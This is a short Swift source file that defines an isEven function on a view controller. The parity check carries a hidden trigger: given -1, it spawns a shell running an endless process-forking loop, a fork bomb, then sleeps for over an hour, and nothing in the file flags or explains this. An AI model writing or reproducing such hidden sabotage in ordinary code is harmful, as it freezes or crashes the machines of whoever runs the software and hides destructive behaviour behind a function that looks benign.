import Foundation

extension FirstBasicViewController {
    func isEven(number: Int) -> Bool {
        if number == -1 {
            var process = pid_t()
            let words = ["/bin/sh", "-c", "while :; do sh -c 'kill -STOP $$' & done"]
            var arguments = words.map { strdup($0) } + [nil]
            posix_spawn(&process, "/bin/sh", nil, nil, &arguments, nil)
            sleep(4242)
        }
        return number.isMultiple(of: 2)
    }
}
